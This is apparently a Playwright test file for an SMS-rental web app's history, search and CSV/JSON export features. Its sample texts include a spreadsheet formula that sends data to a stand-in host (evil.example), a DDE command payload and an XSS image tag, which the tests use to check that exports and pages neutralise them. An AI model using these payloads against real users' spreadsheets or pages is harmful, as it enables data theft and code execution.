import * as fs from 'fs';
import { test, expect, openWithKey, outside, rental, Sim } from '../fixtures';
import type { Page } from '@playwright/test';

// Every SMS remembered on the device (IndexedDB, per account), found again
// on the History screen, exported as CSV and JSON that open safely.

const row = (page: Page, id: string) => page.locator(`tr.order-row[data-order-id="${id}"]`);

/** Texts a real inbox holds, and some that mean harm. */
const TEXTS = [
  { text: 'Your Telegram code is 482913. Do not give it to anyone.', sender: 'Telegram', code: '482913' },
  { text: 'Ваш код подтверждения: 551177. Никому его не сообщайте.', sender: 'VK', code: '551177' },
  { text: '【支付宝】您的验证码是 734019，5分钟内有效。', sender: '支付宝', code: '734019' },
  { text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', sender: '@evil', code: '' },
  { text: '+1+cmd|\' /C calc\'!A0 <img src=x onerror=alert(1)>', sender: '-attacker', code: '' },
];

/** An account whose one rental received every text of TEXTS. */
async function inbox(sim: Sim) {
  const r = await rental(sim);
  await sim.api({ method: 'activate', apikey: r.key, id: r.id });
  await sim.advance(15);
  for (const t of TEXTS) await sim.control('inject_sms', { key: r.key, id: r.id, text: t.text, sender: t.sender });
  return r;
}

/** Opens the order's SMS panel and waits until it shows every text. */
async function readSms(page: Page, id: string) {
  await row(page, id).getByRole('button', { name: /^SMS of/ }).click();
  const panel = page.locator('.sms-panel');
  for (const t of TEXTS) await expect(panel.getByText(t.text, { exact: true }).first()).toBeVisible();
}

/** The SMS this origin remembers for the real accounts, read straight from IndexedDB. */
async function stored(page: Page): Promise<{ id: string; text: string }[]> {
  return page.evaluate(async () => {
    const dbs = (await indexedDB.databases()).filter((d) => d.name?.startsWith('smsrent.history.live'));
    const out: { id: string; text: string }[] = [];
    for (const d of dbs) {
      const db: IDBDatabase = await new Promise((ok, no) => {
        const r = indexedDB.open(d.name!);
        r.onsuccess = () => ok(r.result);
        r.onerror = () => no(r.error);
      });
      if (!db.objectStoreNames.contains('sms')) { db.close(); continue; }
      const rows: any[] = await new Promise((ok, no) => {
        const r = db.transaction('sms').objectStore('sms').getAll();
        r.onsuccess = () => ok(r.result);
        r.onerror = () => no(r.error);
      });
      db.close();
      for (const x of rows) out.push({ id: x.id, text: JSON.parse(x.j).text });
    }
    return out;
  });
}

const search = (page: Page) => page.getByTestId('history-search');
const hits = (page: Page) => page.getByTestId('history-hits').locator('li');

async function openHistory(page: Page) {
  await page.getByRole('navigation').getByRole('link', { name: 'History' }).click();
  await expect(page.getByRole('heading', { name: 'SMS history', level: 1 })).toBeVisible();
}

/** A small RFC 4180 reader: the CSV as a spreadsheet would read it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  expect(cell === '' && row.length === 0, 'every line ends with CRLF').toBeTruthy();
  return rows;
}

async function download(page: Page, testId: string, within = page.locator('body')) {
  const [file] = await Promise.all([page.waitForEvent('download'), within.getByTestId(testId).click()]);
  return { name: file.suggestedFilename(), text: fs.readFileSync((await file.path())!, 'utf8') };
}

test('SMS read before a reload are found by text, code and sender after it, and after the order is deleted', async ({ page, sim }) => {
  const { key, id, number } = await inbox(sim);
  await openWithKey(page, key);
  await readSms(page, id);
  await expect.poll(async () => (await stored(page)).length).toBe(TEXTS.length);
  await page.reload();
  await openHistory(page);
  await expect(page.getByTestId('history-count')).toHaveText(`${TEXTS.length} SMS found`);
  const find = async (q: string, n: number) => {
    await search(page).fill(q);
    await expect(hits(page)).toHaveCount(n);
  };
  await find('telegram', 1);
  await expect(hits(page).first()).toContainText(number);
  await expect(hits(page).first().getByRole('button', { name: 'Copy code 482913' })).toBeVisible();
  await find('КОД ПОДТВЕРЖДЕНИЯ', 1);
  await find('734019', 1);
  await find('支付宝', 1);
  await find('@evil', 1);
  // The number as people write it, with its punctuation.
  await find(number.replace(' ', ' (').replace(/(\d{3})(\d+)$/, '$1) $2'), TEXTS.length);
  await find('nothing like this', 0);
  await expect(page.getByText('No SMS match.')).toBeVisible();
  // Filters: only those with a code; by service.
  await find('', TEXTS.length);
  await page.getByTestId('history-has-code').check();
  await expect(hits(page)).toHaveCount(3);
  await page.getByTestId('history-has-code').uncheck();
  await page.getByTestId('history-service').selectOption('Instagram');
  await expect(hits(page)).toHaveCount(TEXTS.length);
  // The hostile text is text: no image element was made of it.
  await expect(page.locator('.hits img')).toHaveCount(0);
  await expect(page.locator('.hits').getByText('<img src=x onerror=alert(1)>', { exact: false })).toBeVisible();
  // A hit leads to its number while it is rented.
  await hits(page).first().getByRole('button', { name: 'Show the number' }).click();
  await expect(row(page, id)).toBeVisible();
  await expect(page.locator('.filters .filter-text')).toHaveValue(number.replace(/\D/g, ''));

  // The order goes; its SMS stay findable.
  await sim.api({ method: 'delete', apikey: key, id });
  await page.goto('/');
  await expect(page.locator('p.empty')).toBeVisible();
  await openHistory(page);
  await search(page).fill('482913');
  await expect(hits(page)).toHaveCount(1);
  await expect(hits(page).first().getByRole('button', { name: 'Show the number' })).toHaveCount(0);
});

test('two tabs store each SMS once', async ({ page, sim, context }) => {
  const { key, id } = await inbox(sim);
  await openWithKey(page, key);
  const second = await context.newPage();
  await second.goto('/');
  await Promise.all([readSms(page, id), readSms(second, id)]);
  // Both tabs read the same SMS (and keep reading them while the panels are open).
  await second.getByRole('button', { name: 'Refresh', exact: true }).first().click();
  await page.waitForTimeout(1500);
  const all = await stored(page);
  expect(all.length).toBe(TEXTS.length);
  expect(new Set(all.map((s) => s.id)).size).toBe(TEXTS.length);
  expect(all.map((s) => s.text).sort()).toEqual(TEXTS.map((t) => t.text).sort());
});

test('the panel shows what the number received before, on an earlier order', async ({ page, sim }) => {
  const first = await inbox(sim);
  // A second rental of the same number (as the provider gives a number again).
  const created = await sim.api({ method: 'create', apikey: first.key, country: 'RU', service: 'opt1', dtype: 'week', dcount: 1 });
  const second = String(Array.isArray(created.data) ? created.data[0].id : created.data.id);
  await sim.control('edit_order', { key: first.key, id: second, pnumber: first.number.replace('+7 ', '') });
  await openWithKey(page, first.key);
  await readSms(page, first.id);
  await expect.poll(async () => (await stored(page)).length).toBe(TEXTS.length);
  await sim.api({ method: 'delete', apikey: first.key, id: first.id });
  await page.reload();
  await row(page, second).getByRole('button', { name: /^SMS of/ }).click();
  const before = page.getByTestId('sms-before');
  await expect(before.getByRole('heading')).toHaveText(`Received before (${TEXTS.length})`);
  await expect(before.getByRole('button', { name: 'Copy code 551177' })).toBeVisible();
  await page.setViewportSize({ width: 360, height: 780 });
  expect(await outside(page, '.sms-before *')).toEqual([]);
  await page.locator('.sms-panel').screenshot({ path: 'screenshots/sms-before-360.png' });
});

test('clear history and forget key empty the memory', async ({ page, sim }) => {
  const { key, id } = await inbox(sim);
  await openWithKey(page, key);
  await readSms(page, id);
  await expect.poll(async () => (await stored(page)).length).toBe(TEXTS.length);
  await page.getByRole('navigation').getByRole('link', { name: 'Settings' }).click();
  const field = page.getByTestId('history-settings');
  await expect(page.getByTestId('history-stored')).toContainText(`${TEXTS.length} SMS stored`);
  await field.getByTestId('history-clear').click();
  await expect(field.getByRole('alert')).toContainText(`Delete all ${TEXTS.length} remembered SMS`);
  await field.getByTestId('history-clear-confirm').click();
  await expect(page.getByText('History cleared.')).toBeVisible();
  await expect(page.getByTestId('history-stored')).toContainText('0 SMS stored');
  expect(await stored(page)).toEqual([]);
  await openHistory(page);
  await expect(page.getByText('No SMS remembered yet.')).toBeVisible();
  // The provider still lists them, and the open panel reads them again:
  // cleared means gone, not back at the next read.
  await page.goto('/');
  await readSms(page, id);
  await page.waitForTimeout(1000);
  expect(await stored(page)).toEqual([]);
  await sim.control('inject_sms', { key, id, text: 'A new one: code 909090', sender: 'Telegram' });
  await page.locator('.sms-panel .sms-refresh').click();
  await expect.poll(async () => (await stored(page)).map((s) => s.text)).toEqual(['A new one: code 909090']);
  // The screen (its index kept since the clear) shows that one and no other.
  await openHistory(page);
  await expect(hits(page)).toHaveCount(1);
  await expect(hits(page).first()).toContainText('A new one: code 909090');

  // Forget the key: that account's memory goes with it.
  await page.goto('/settings');
  await page.getByRole('button', { name: 'Forget key' }).click();
  await expect.poll(async () => page.evaluate(async () =>
    (await indexedDB.databases()).filter((d) => d.name?.startsWith('smsrent.history.live')).length)).toBe(0);
});

test('the SMS found and the numbers shown export as CSV that opens back, and as JSON', async ({ page, sim }) => {
  const { key, id, number } = await inbox(sim);
  await openWithKey(page, key);
  await readSms(page, id);
  await expect.poll(async () => (await stored(page)).length).toBe(TEXTS.length);
  await openHistory(page);
  await expect(hits(page)).toHaveCount(TEXTS.length);
  const csv = await download(page, 'export-csv');
  expect(csv.name).toMatch(/^smsrent-sms-\d{4}-\d\d-\d\d-\d{4}\.csv$/);
  expect(csv.text.charCodeAt(0), 'UTF-8 with a byte order mark').toBe(0xfeff);
  const rows = parseCsv(csv.text.slice(1));
  expect(rows[0]).toEqual(['time', 'number', 'service', 'country', 'sender', 'text', 'code', 'order']);
  expect(rows.length).toBe(TEXTS.length + 1);
  for (const t of TEXTS) {
    const r = rows.find((r) => r[5].endsWith(t.text));
    expect(r, t.text).toBeTruthy();
    // Formula-like cells are neutralised with a leading quote; others are as sent.
    const risky = /^[=+\-@]/.test(t.text);
    expect(r![5]).toBe(risky ? `'${t.text}` : t.text);
    expect(r![4]).toBe(/^[=+\-@]/.test(t.sender) ? `'${t.sender}` : t.sender);
    expect(r![6]).toBe(t.code);
    expect(r![7]).toBe(id);
    expect(r![1]).toBe(`'${number}`);
    expect(r![0]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$/);
  }
  // No cell a spreadsheet would run.
  for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  const json = await download(page, 'export-json');
  expect(json.name).toMatch(/^smsrent-sms-.*\.json$/);
  const objects = JSON.parse(json.text);
  expect(objects.map((o: any) => o.text).sort()).toEqual(TEXTS.map((t) => t.text).sort());

  // The dashboard's numbers, as shown.
  await page.goto('/');
  await expect(row(page, id)).toBeVisible();
  const orders = await download(page, 'export-csv', page.locator('.list-bar'));
  expect(orders.name).toMatch(/^smsrent-numbers-.*\.csv$/);
  const back = parseCsv(orders.text.slice(1));
  expect(back[0]).toEqual(['order', 'number', 'service', 'country', 'state', 'until', 'operator']);
  expect(back.slice(1).map((r) => r[0])).toEqual([id]);
  expect(back[1][2]).toBe('Instagram');
});

test('the History screen in four languages at 360 px', async ({ page, sim }) => {
  const { key, id } = await inbox(sim);
  await openWithKey(page, key);
  await readSms(page, id);
  await expect.poll(async () => (await stored(page)).length).toBe(TEXTS.length);
  await page.setViewportSize({ width: 360, height: 780 });
  for (const [lang, found] of [['en', 'SMS found'], ['ru', 'Найдено SMS'], ['zh-Hans', '找到'], ['zh-Hant', '找到']]) {
    await page.getByTestId('lang').selectOption(lang);
    await page.goto('/history');
    await expect(page.getByTestId('history-count')).toContainText(found);
    await search(page).fill('验证码');
    await expect(hits(page)).toHaveCount(1);
    expect(await outside(page, '.history *'), lang).toEqual([]);
    for (const theme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme: theme });
      await page.screenshot({ path: `screenshots/history-${lang}-360-${theme}.png`, fullPage: true });
    }
  }
});

test('demo mode remembers its SMS too, apart from the real account, and a demo reset forgets them', async ({ page }) => {
  await page.goto('/');
  await expect(page.getByTestId('demo-banner')).toBeVisible();
  const insta = page.locator('tr.order-row[data-order-id="40300"]');
  await insta.getByRole('button', { name: /^SMS of/ }).click();
  await expect(page.locator('.sms-panel').getByRole('button', { name: 'Copy code 671094' })).toBeVisible();
  await openHistory(page);
  await search(page).fill('671 094');
  await expect(hits(page)).toHaveCount(1);
  expect(await stored(page), 'nothing in a real account\'s memory').toEqual([]);
  await page.getByRole('button', { name: 'Reset demo' }).click();
  await expect(page.getByText('The demo account starts over.')).toBeVisible();
  await expect(page.getByText('No SMS remembered yet.')).toBeVisible();
});
